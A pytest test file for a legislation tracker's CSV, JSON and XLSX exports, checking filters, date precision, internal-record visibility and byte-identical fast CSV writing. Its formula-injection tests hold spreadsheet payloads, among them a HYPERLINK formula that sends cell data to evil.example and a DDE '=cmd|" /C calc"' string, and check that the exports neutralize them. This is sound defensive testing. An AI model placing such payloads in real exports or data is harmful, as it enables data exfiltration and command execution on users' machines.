"""Every list has CSV, JSON and XLSX twins with the page's filters, opened as a spreadsheet
user's tools would open them (csv, json, openpyxl)."""

from __future__ import annotations

import csv
import io
import json
import re
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from tests.exports_support import (
    FOREIGN_REPRESENTATIVES,
    SIGNED_IN,
    add_internal_records,
    add_measure,
    add_statement,
    allow_signed_in,
    text_of,
)
from tracker.viewpoint import Viewpoint

INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def client(app: Flask) -> FlaskClient:
    allow_signed_in(app)
    return app.test_client()


def read_csv(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def read_xlsx(data: bytes) -> tuple[list[dict[str, Any]], dict[str, Any]]:
    workbook = load_workbook(io.BytesIO(data))
    sheet = workbook.worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    header = [str(name) for name in rows[0]]
    about = {row[0]: row[1] for row in workbook["About"].iter_rows(values_only=True) if row[0]}
    return [dict(zip(header, row, strict=True)) for row in rows[1:]], about


def slugs_on_measures_page(html: bytes) -> list[str]:
    return re.findall(r'<td class="cell-title"><a href="/measures/([a-z0-9-]+)[?"]', html.decode())


def test_measure_twins_have_the_page_filters_and_names(client: FlaskClient) -> None:
    query = "country=KG&status=in-force"
    page = client.get(f"/measures/?{query}")
    expected = slugs_on_measures_page(page.data)
    assert expected

    response = client.get(f"/measures.csv?{query}")
    assert response.status_code == 200
    assert response.is_streamed
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == (
        "attachment; filename=measures-kg-in-force-2026-11-28.csv"
    )
    rows = read_csv(response.data)
    assert [row["slug"] for row in rows] == expected
    law = next(row for row in rows if row["slug"] == FOREIGN_REPRESENTATIVES)
    assert law["country"] == "KG"
    assert law["country_name"] == "Kyrgyzstan"
    assert law["kind_label"] == "Law"
    assert law["status_label"] == "In force"
    assert law["outcome"] == "Enacted"
    assert law["latest_event"] == "2025-09"
    assert law["latest_event_formatted"] == "September 2025"
    assert law["original_title"].startswith("Закон Кыргызской Республики")
    assert law["url"] == f"http://localhost/measures/{FOREIGN_REPRESENTATIVES}"
    assert "Foreign funding" in law["topics"]

    document = json.loads(client.get(f"/measures.json?{query}").data)
    assert [item["slug"] for item in document["items"]] == expected
    assert document["total"] == len(expected)
    assert document["as_of"] == "2026-11-28"
    assert document["filters"] == {"country": ["KG"], "status": ["in-force"]}
    assert document["generated"].startswith("20")
    assert [column["name"] for column in document["columns"]][:2] == ["slug", "title"]
    item = next(i for i in document["items"] if i["slug"] == FOREIGN_REPRESENTATIVES)
    assert item["popular_names"][0] == "foreign representatives law"
    assert isinstance(item["events"], int)

    xlsx = client.get(f"/measures.xlsx?{query}")
    assert xlsx.headers["Content-Disposition"].endswith("measures-kg-in-force-2026-11-28.xlsx")
    sheet_rows, about = read_xlsx(xlsx.data)
    assert [row["slug"] for row in sheet_rows] == expected
    assert about["As of"] == "2026-11-28"
    assert "country Kyrgyzstan" in about["Filters"]


def test_twins_honour_as_of(client: FlaskClient) -> None:
    rows = read_csv(client.get("/measures.csv?as_of=2024-02-08&country=KG").data)
    law = next(row for row in rows if row["slug"] == FOREIGN_REPRESENTATIVES)
    assert law["status_label"] == "First reading"
    assert law["url"].endswith("?as_of=2024-02-08")
    response = client.get("/events.csv?as_of=2024-02-08")
    assert "events-2024-02-08.csv" in response.headers["Content-Disposition"]
    assert all(row["date_first_day"] <= "2024-02-08" for row in read_csv(response.data))


def test_the_events_page_and_its_twins_agree(client: FlaskClient) -> None:
    query = "country=KG&type=extended&from=2024&to=2025"
    page = client.get(f"/events/?{query}")
    assert page.status_code == 200
    count = int(re.search(r"([\d,]+) events?", text_of(page.data)).group(1))  # type: ignore[union-attr]
    assert count > 0
    rows = read_csv(client.get(f"/events.csv?{query}").data)
    assert len(rows) == count
    assert {row["type_label"] for row in rows} == {"Extended"}
    assert all("2024-01-01" <= row["date_first_day"] <= "2025-12-31" for row in rows)
    document = json.loads(client.get(f"/events.json?{query}").data)
    assert document["total"] == count == len(document["items"])
    sheet_rows, _ = read_xlsx(client.get(f"/events.xlsx?{query}").data)
    assert len(sheet_rows) == count
    assert page.data.count(b'<tr>\n      <td class="cell-date"><time') == count


def test_event_dates_are_written_at_their_precision(client: FlaskClient) -> None:
    rows = read_csv(client.get(f"/events.csv?measure={FOREIGN_REPRESENTATIVES}").data)
    in_force = next(row for row in rows if row["type"] == "entered-into-force")
    assert in_force["date"] == "2024-04"
    assert in_force["date_formatted"] == "April 2024"
    assert in_force["date_precision"] == "month"
    assert in_force["date_approximate"] == "false"
    assert (in_force["date_first_day"], in_force["date_last_day"]) == ("2024-04-01", "2024-04-30")
    assert in_force["url"].startswith(f"http://localhost/measures/{FOREIGN_REPRESENTATIVES}#event-")
    assert in_force["sources"].startswith("https://")
    signed = next(row for row in rows if row["type"] == "signed")
    assert (signed["date"], signed["date_precision"]) == ("2024-04-02", "day")
    approximate = [row for row in rows if row["date_approximate"] == "true"]
    assert approximate
    assert all(row["date_formatted"].startswith("c. ") for row in approximate)

    sheet_rows, _ = read_xlsx(client.get(f"/events.xlsx?measure={FOREIGN_REPRESENTATIVES}").data)
    sheet = next(row for row in sheet_rows if row["type"] == "entered-into-force")
    assert sheet["date"] == "2024-04"
    assert sheet["date_first_day"].date().isoformat() == "2024-04-01"


def test_a_month_overlapping_a_date_range_counts(client: FlaskClient) -> None:
    # "Entered into force in April 2024" may have been on 15 April or later; an event known
    # only to the year 2024 may have been too. Events known to the day are in or out.
    url = f"/events.csv?measure={FOREIGN_REPRESENTATIVES}&from=15 April 2024&to=2024-04-20"
    rows = read_csv(client.get(url).data)
    assert "entered-into-force" in [row["type"] for row in rows]
    for row in rows:
        assert row["date_first_day"] <= "2024-04-20"
        assert row["date_last_day"] >= "2024-04-15"
    assert "signed" not in [row["type"] for row in rows]  # 2 April 2024


def test_a_date_the_filter_cannot_read_is_a_clear_error(client: FlaskClient) -> None:
    for url in ("/events/?from=2024-13", "/events.csv?to=soon", "/statements.json?from=13/13/2024"):
        response = client.get(url)
        assert response.status_code == 400, url
        assert "Oct 2023" in text_of(response.data)  # says which forms it reads
    response = client.get("/events.csv?from=2025&to=2024")
    assert response.status_code == 400
    assert "ends before it starts" in text_of(response.data)


def test_statement_twins_have_the_page_filters(client: FlaskClient) -> None:
    query = "organization=amnesty-international&from=2024"
    page = text_of(client.get(f"/statements/?{query}").data)
    count = int(re.search(r"(\d+) statements?", page).group(1))  # type: ignore[union-attr]
    rows = read_csv(client.get(f"/statements.csv?{query}").data)
    assert len(rows) == count > 0
    crackdown = next(
        row for row in rows if row["slug"] == "amnesty-2024-02-08-kyrgyzstan-crackdown"
    )
    assert crackdown["organization"] == "Amnesty International"
    assert crackdown["date"] == "2024-02-08"
    assert crackdown["date_formatted"] == "8 February 2024"
    assert "Kyrgyzstan" in crackdown["countries"]
    assert "Maisy Weicherding" in crackdown["quotes"]
    document = json.loads(client.get(f"/statements.json?{query}").data)
    assert document["total"] == count
    assert isinstance(document["items"][0]["measures"], list)
    sheet_rows, _ = read_xlsx(client.get(f"/statements.xlsx?{query}").data)
    assert len(sheet_rows) == count


def test_formula_injection_is_neutralized_in_csv_and_xlsx(
    client: FlaskClient, session: Session
) -> None:
    measure = add_measure(
        session, "kg-injection-test", INJECTION, events=[("introduced", "2025-03-04")]
    )
    measure.events[0].description = "+SUM(1,1)"
    measure.events[0].actor = "@attacker"
    add_statement(session, "injection-statement", "-2+3", [measure], quote="=1+1")
    session.flush()

    rows = read_csv(client.get("/measures.csv?q=hyperlink").data)
    assert rows[0]["title"] == "'" + INJECTION
    events = read_csv(client.get("/events.csv?measure=kg-injection-test").data)
    assert events[0]["measure_title"] == "'" + INJECTION
    assert events[0]["description"] == "'+SUM(1,1)"
    assert events[0]["actor"] == "'@attacker"
    statements = read_csv(client.get("/statements.csv?from=2025-03-05&to=2025-03-05").data)
    assert (
        next(row for row in statements if row["slug"] == "injection-statement")["title"] == "'-2+3"
    )

    workbook = load_workbook(io.BytesIO(client.get("/measures.xlsx?q=hyperlink").data))
    sheet = workbook.worksheets[0]
    header = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("title") + 1)
    assert cell.value == "'" + INJECTION
    assert cell.data_type == "s"  # text, never a formula
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_csv_is_utf8_with_an_excel_option(client: FlaskClient) -> None:
    plain = client.get("/measures.csv").data
    assert not plain.startswith(b"\xef\xbb\xbf")
    assert "Закон Кыргызской Республики".encode() in plain
    excel = client.get("/measures.csv?excel=1")
    assert excel.data.startswith(b"\xef\xbb\xbf")
    assert excel.data[3:] == plain
    assert "excel" not in excel.headers["Content-Disposition"]


def test_list_pages_link_their_twins(client: FlaskClient) -> None:
    html = client.get("/measures/?country=KG").data.decode()
    assert 'rel="alternate" type="text/csv"' in html
    assert 'href="/measures.csv?country=KG"' in html
    assert 'href="/measures.xlsx?country=KG"' in html
    assert 'href="/measures.json?country=KG"' in html
    events = client.get("/events/?country=KG&type=signed").data.decode()
    assert 'href="/events.csv?country=KG&amp;type=signed"' in events
    statements = client.get("/statements/?stance=oppose").data.decode()
    assert 'href="/statements.xlsx?stance=oppose"' in statements


def test_internal_records_stay_out_of_anonymous_downloads(
    client: FlaskClient, session: Session
) -> None:
    measure, statement = add_internal_records(session)
    for url in (
        "/measures.csv",
        "/events.csv",
        "/statements.csv",
        "/measures.json",
        "/events.json",
    ):
        data = client.get(url).data.decode("utf-8")
        assert measure.slug not in data, url
        assert "confidential.example" not in data, url
        assert statement.title not in data, url
    _, about = read_xlsx(client.get("/events.xlsx").data)
    assert about["Rows"] == str(json.loads(client.get("/events.json").data)["total"])
    assert measure.slug not in str(read_xlsx(client.get("/measures.xlsx").data)[0])
    assert client.get("/events.csv").headers["Cache-Control"] == "public, max-age=300"

    signed_in = client.get("/measures.csv", headers=SIGNED_IN)
    row = next(r for r in read_csv(signed_in.data) if r["slug"] == measure.slug)
    assert row["visibility"] == "internal"
    assert signed_in.headers["Cache-Control"] == "private, no-store"
    assert "measures-including-internal-2026-11-28.csv" in signed_in.headers["Content-Disposition"]
    events = read_csv(client.get("/events.csv", headers=SIGNED_IN).data)
    assert {r["visibility"] for r in events if r["measure"] == measure.slug} == {"internal"}
    assert {r["visibility"] for r in read_csv(client.get("/events.csv").data)} == {"public"}
    assert statement.slug in client.get("/statements.csv", headers=SIGNED_IN).data.decode()


def test_the_events_page_paginates_but_downloads_have_every_row(
    client: FlaskClient, session: Session, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("tracker.web.events.PER_PAGE", 10)
    page = text_of(client.get("/events/").data)
    total = int(re.search(r"([\d,]+) events", page).group(1).replace(",", ""))  # type: ignore[union-attr]
    assert "page 1 of" in page
    assert len(read_csv(client.get("/events.csv?page=2").data)) == total
    assert client.get("/events/?page=0").status_code == 400


def test_the_fast_event_csv_writes_what_the_generic_writer_would(
    app: Flask, session: Session
) -> None:
    """The events CSV is written by a faster path (for a million rows); it must not drift from
    the table's definition: same columns, same cells, same quoting, byte for byte."""
    import datetime as dt

    from tracker.exports import tables
    from tracker.http.links import WebLinks
    from tracker.services.events import EventFilters, iter_event_records

    measure = add_measure(
        session,
        "kg-csv-quoting",
        'Title with "quotes", commas\nand a newline',
        events=[("extended", "2024-03"), ("signed", "2013")],
        until={0: "2024-06-30"},
    )
    measure.events[0].description = '=cmd|" /C calc"!A0'
    measure.events[0].actor = 'Court, "first" chamber\r\n'
    measure.events[1].date = measure.events[1].date.__class__(2013, approximate=True)
    measure.events[1].votes_for = 52
    session.flush()

    with app.test_request_context("/events.csv"):
        links = WebLinks()

        def records() -> Any:
            return iter_event_records(
                session, EventFilters(), Viewpoint.anonymous(dt.date(2026, 11, 28))
            )

        generic = b"".join(tables.csv_stream(tables.EVENTS, tables.event_rows(records(), links)))
        fast = b"".join(
            tables.csv_lines_stream(tables.EVENTS, tables.event_csv_lines(records(), links))
        )
    assert fast == generic
    # The fast path writes the table's columns itself (else it hands over to the generic one).
    assert tuple(tables.EVENTS.names) == tables.FAST_EVENT_COLUMNS, (
        "EVENTS has columns event_csv_lines does not write: the events CSV took the slow path"
    )
    assert len(read_csv(fast)) > 60
    row = next(
        r for r in read_csv(fast) if r["measure"] == "kg-csv-quoting" and r["type"] == "extended"
    )
    assert row["description"] == '\'=cmd|" /C calc"!A0'
    assert row["measure_title"] == 'Title with "quotes", commas\nand a newline'
    assert row["end_date_formatted"] == "30 June 2024"
